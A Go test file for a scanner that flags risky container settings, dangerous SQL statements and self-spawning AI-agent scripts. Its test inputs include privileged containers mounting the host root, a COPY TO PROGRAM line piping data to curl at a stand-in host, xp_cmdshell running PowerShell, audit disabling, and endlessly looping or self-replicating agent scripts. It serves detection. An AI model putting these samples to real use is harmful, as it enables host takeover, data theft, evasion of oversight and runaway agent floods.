package provision

import (
	"slices"
	"strings"
	"testing"
)

func TestContainers(t *testing.T) {
	for text, want := range map[string]string{
		"services:\n  a:\n    image: x/y\n    privileged: true\n    volumes: ['/:/host']\n":                                                                                 "x/y, mount /, privileged",
		"services:\n  a:\n    image: x/y\n    cap_add: [CAP_SYS_ADMIN, net_admin]\n    pid: host\n":                                                                         "x/y, cap NET_ADMIN, cap SYS_ADMIN, pid host",
		"services:\n  a:\n    image: x/y\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock:ro\n":                                                             "x/y, mount /var/run/docker.sock ro",
		"services:\n  a:\n    image: x/y\n    volumes:\n      - type: bind\n        source: /\n        target: /h\n":                                                        "x/y, mount /",
		"services:\n  a:\n    image: x/y\n    volumes: ['/..:/h:rw,z']\n":                                                                                                   "x/y, mount /",
		"services:\n  a:\n    image: x/y\n    volumes: [{type: tmpfs, target: /tmp}, {type: volume, source: d, target: /d}]\n":                                              "",
		`{"services": {"a": {"image": "x/y", "privileged": true}}}`:                                                                                                         "x/y, privileged",
		"services: {a: {image: x/y, privileged: true}}\n":                                                                                                                   "x/y, privileged",
		"kind: Pod\nspec:\n  hostPID: true\n  containers:\n  - image: x/y\n    securityContext: {privileged: true}\n":                                                       "x/y, pid host, privileged",
		"kind: Pod\nspec:\n  containers:\n  - image: x/y\n    securityContext: {capabilities: {add: [SYS_ADMIN]}}\n":                                                        "x/y, cap SYS_ADMIN",
		"kind: Pod\nspec:\n  containers:\n  - image: x/y\n    volumeMounts: [{name: r, mountPath: /h, readOnly: true}]\n  volumes:\n  - name: r\n    hostPath: {path: /}\n": "x/y, mount / ro",
		"kind: Pod\nspec:\n  containers:\n  - image: x/y\n  volumes:\n  - name: r\n    hostPath: {path: /}\n":                                                               "",
		"services:\n  a:\n    image: x/y\n    privileged: false\n    volumes: ['./data:/data']\n":                                                                           "",
		"kind: Pod\nspec:\n  containers:\n  - image: x/y\n    securityContext: {privileged: false, allowPrivilegeEscalation: false}\n":                                      "",
		"services:\n  a:\n    build: .\n    volumes: ['.:/app']\n  b:\n    image: redis:7\n    volumes: ['cache:/data']\n":                                                  "",
	} {
		got := ""
		all, _ := Find("compose.yml", []byte(text))
		for _, one := range all {
			if one.Kind == Container {
				got += strings.Join(one.To, ", ")
			}
		}
		if got != want {
			t.Errorf("%s\n%q, want %q", text, got, want)
		}
	}
}

func TestDatabases(t *testing.T) {
	for text, want := range map[string][]string{
		"CREATE ROLE s WITH LOGIN SUPERUSER PASSWORD 'Supp0rt2024';":                                                      {"database superuser"},
		"CREATE USER 'a'@'%' IDENTIFIED BY 'x7Kq2'; GRANT ALL PRIVILEGES ON *.* TO 'a'@'%' WITH GRANT OPTION;":            {"database superuser"},
		"CREATE LOGIN rep WITH PASSWORD = 'Rep0rt!'; ALTER SERVER ROLE sysadmin ADD MEMBER rep;":                          {"database superuser"},
		"COPY t TO PROGRAM 'curl -d @- https://a.example';":                                                               {"database runs"},
		"EXEC xp_cmdshell 'powershell -c whoami'":                                                                         {"database runs"},
		"EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;":                                                                {"database runs"},
		"CREATE TRIGGER m AFTER INSERT ON c EXECUTE FUNCTION f(); SELECT dblink_exec('host=m.cols.io user=w', 'insert');": {"database copies"},
		"CREATE SUBSCRIPTION s CONNECTION 'host=m.cols.io dbname=x' PUBLICATION p;":                                       {"database sends"},
		"ALTER TABLE customers DISABLE ROW LEVEL SECURITY;":                                                               {"database unguards"},
		"ALTER SERVER AUDIT main WITH (STATE = OFF);":                                                                     {"database unguards"},
		"CREATE USER app WITH PASSWORD 'secret'; GRANT ALL PRIVILEGES ON DATABASE app TO app;":                            nil,
		"CREATE ROLE s LOGIN SUPERUSER;":                                                                                  nil,
		"COPY t TO '/tmp/a.csv' WITH CSV;":                                                                                nil,
		"CREATE TRIGGER m AFTER INSERT ON c EXECUTE FUNCTION touch();":                                                    nil,
		"ALTER TABLE c DISABLE ROW LEVEL SECURITY; UPDATE c SET a=1; ALTER TABLE c ENABLE ROW LEVEL SECURITY;":            {"database unguards limited"},
		"CREATE USER a WITH PASSWORD '$PASSWORD' SUPERUSER;":                                                              nil,
	} {
		if got := found(text, "a.sql"); !slices.Equal(got, want) {
			t.Errorf("%s\n%q, want %q", text, got, want)
		}
	}
}

func TestFloods(t *testing.T) {
	for _, one := range []struct {
		file, text string
		want       []string
	}{
		{"go.sh", "claude -p 'improve'\n\"$0\" &\n", []string{"agents itself"}},
		{"go.sh", "claude -p 'Improve it. Then run scripts/go.sh again.'\n", []string{"agents itself"}},
		{"a.sh", "while true; do\n codex exec 'again' &\ndone\n", []string{"agents loop"}},
		{"a.py", "def agent(t):\n    subprocess.run(['claude', '-p', t])\n    agent(t)\n", []string{"agents itself"}},
		{"a.py", "while True:\n    subprocess.run(['claude', '-p', 'x'])\n", []string{"agents loop"}},
		{"a.js", "for (;;) {\n  execFileSync('claude', ['-p', 'x']);\n}\n", []string{"agents loop"}},
		{"a.sh", "(crontab -l; echo '* * * * * claude -p \"update\"') | crontab -\n", []string{"agents minutely"}},
		{"SKILL.md", "Each sub-agent loads this skill and starts two sub-agents of its own.\n", []string{"agents breeds"}},
		{"a.sh", "while true; do\n claude -p x | grep -q DONE && break\ndone\n", []string{"agents loop limited"}},
		{"a.py", "def agent(t, depth):\n    if depth > 3:\n        return\n    subprocess.run(['claude', '-p', t])\n    agent(t, depth + 1)\n", []string{"agents itself limited"}},
		{"a.sh", "for f in *.md; do claude -p \"check $f\"; done\n", nil},
		{"a.sh", "while true; do make test; sleep 5; done\nclaude -p x\n", nil},
		{"a.sh", "echo '0 6 * * 1 claude -p weekly' | crontab -\n", nil},
		{"SKILL.md", "Each sub-agent starts with the file that it is given.\n", nil},
		{"a.py", "def agent(t):\n    return subprocess.run(['claude', '-p', t])\n\nagent('x')\n", nil},
	} {
		if got := found(one.text, one.file); !slices.Equal(got, one.want) {
			t.Errorf("%s: %s\n%q, want %q", one.file, one.text, got, one.want)
		}
	}
}
